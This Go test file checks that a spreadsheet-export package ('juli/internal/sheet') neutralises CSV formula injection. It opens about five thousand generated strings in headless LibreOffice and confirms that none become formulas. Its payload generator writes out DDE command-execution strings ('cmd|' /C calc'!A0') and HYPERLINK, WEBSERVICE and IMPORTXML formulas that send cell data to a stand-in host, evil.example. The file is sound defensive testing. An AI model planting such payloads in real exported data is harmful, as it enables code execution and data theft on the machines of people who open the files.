//go:build browser

package sheet_test

import (
	"bytes"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"juli/internal/sheet"
)

// evaluated is how LibreOffice reads a csv file: UTF-8, commas, formulas taken
// for formulas.
const evaluated = "CSV:44,34,76,1,,0,false,true,false,false,false,0,true"

// A cell is what LibreOffice made of one.
type cell struct{ formula, kind, value, text string }

// calc opens a file in headless LibreOffice and gives its first table.
func calc(t *testing.T, profile, name string, content []byte) (rows [][]cell) {
	t.Helper()
	dir := t.TempDir()
	path := filepath.Join(dir, name)
	if err := os.WriteFile(path, content, 0o600); err != nil {
		t.Fatal(err)
	}
	args := []string{"-env:UserInstallation=file://" + profile, "--headless", "--norestore", "--convert-to", "fods", "--outdir", dir}
	if filepath.Ext(name) == ".csv" {
		args = append(args, "--infilter="+evaluated)
	}
	cmd := exec.CommandContext(t.Context(), "soffice", append(args, path)...)
	cmd.WaitDelay = time.Minute
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("LibreOffice (make test installs it): %v\n%s", err, out)
	}
	flat, err := os.ReadFile(strings.TrimSuffix(path, filepath.Ext(path)) + ".fods")
	if err != nil {
		t.Fatal(err)
	}
	return tableOf(t, flat)
}

// tableOf reads the cells of a flat OpenDocument table.
func tableOf(t *testing.T, flat []byte) (rows [][]cell) {
	t.Helper()
	for d := xml.NewDecoder(bytes.NewReader(flat)); ; {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			return rows
		}
		if err != nil {
			t.Fatal(err)
		}
		start, ok := token.(xml.StartElement)
		switch {
		case !ok:
		case start.Name.Local == "table-row":
			rows = append(rows, nil)
		case start.Name.Local == "table-cell" && len(rows) > 0:
			var c struct {
				Formula string   `xml:"formula,attr"`
				Kind    string   `xml:"value-type,attr"`
				Value   string   `xml:"value,attr"`
				Text    []string `xml:"p"`
			}
			if err := d.DecodeElement(&c, &start); err != nil {
				t.Fatal(err)
			}
			rows[len(rows)-1] = append(rows[len(rows)-1], cell{c.Formula, c.Kind, c.Value, strings.Join(c.Text, "\n")})
		}
	}
}

// formulas are some five thousand texts that mean to be taken for one.
func formulas() (list []string) {
	leads := []string{"", " ", "   ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u2060", "\t", "\r", "\n", "\r\n", "\n\n", "a\n", "a\r", "甲\r\n", "a\n ", "a\n\t", "a\n\u00a0", "'", "''", " '", "' ", "\"", "\";", "a\n'", "\u2028", "\x0b", "\x0c", "\u202e", ","}
	signs := []string{"=", "+", "-", "@", "＝", "＋", "－", "＠", "−", "﹢", "=-", "+=", "-+", "@=", "==", "=@", "\t="}
	bodies := []string{`1+1`, `HYPERLINK("https://evil.example/"&A1,"看")`, `cmd|' /C calc'!A0`, `SUM(A1:A9)`, `WEBSERVICE("https://evil.example/")`, `DDE("cmd";"/C calc";"x")`, `1`, `2+5+cmd|' /C calc'!A0`, `A1`, `IMPORTXML(CONCAT("https://evil.example/",A1),"//a")`}
	for _, lead := range leads {
		for _, sign := range signs {
			for _, body := range bodies {
				list = append(list, lead+sign+body)
			}
		}
	}
	return list
}

// INP-4: five thousand such texts go out in both kinds of file and are opened in
// LibreOffice: no cell is a formula, every text is a text, and negative amounts
// are the numbers that they were.
func TestNoTextBecomesAFormulaInLibreOffice(t *testing.T) {
	list := formulas()
	if len(list) < 5000 {
		t.Fatalf("only %d texts", len(list))
	}
	var rows [][]any
	var naive strings.Builder
	for _, text := range list {
		rows = append(rows, row(text))
		fmt.Fprintf(&naive, "x,\"%s\"\n", strings.ReplaceAll(text, `"`, `""`))
	}
	profile := t.TempDir()
	eachFormat(t, func(t *testing.T, format sheet.Format) {
		got := calc(t, profile, "out."+string(format), write(t, format, rows...))
		seen := 0
		for _, line := range got {
			for i, c := range line {
				if c.formula != "" {
					t.Errorf("%q became the formula %q", c.text, c.formula)
				}
				if len(line) > 7 && line[0].text == uscc && i == 1 {
					if seen++; c.kind != "string" {
						t.Errorf("%q became a %s", c.text, c.kind)
					}
				}
			}
			if len(line) > 7 && line[0].text == uscc && (line[7].kind != "float" || line[7].value != "-1234.5" || line[9].value != "-2.5") {
				t.Errorf("amounts became %+v and %+v", line[7], line[9])
			}
		}
		if seen < len(list) {
			t.Errorf("%d of %d texts found again", seen, len(list))
		}
	})
	// the same texts without our care, or this test would prove nothing
	taken := 0
	for _, line := range calc(t, profile, "naive.csv", []byte(naive.String())) {
		for _, c := range line {
			if c.formula != "" {
				taken++
			}
		}
	}
	if taken < 30 {
		t.Errorf("LibreOffice takes %d of the bare texts for formulas: it did not look for any", taken)
	}
	t.Logf("%d texts; bare, %d become formulas", len(list), taken)
}
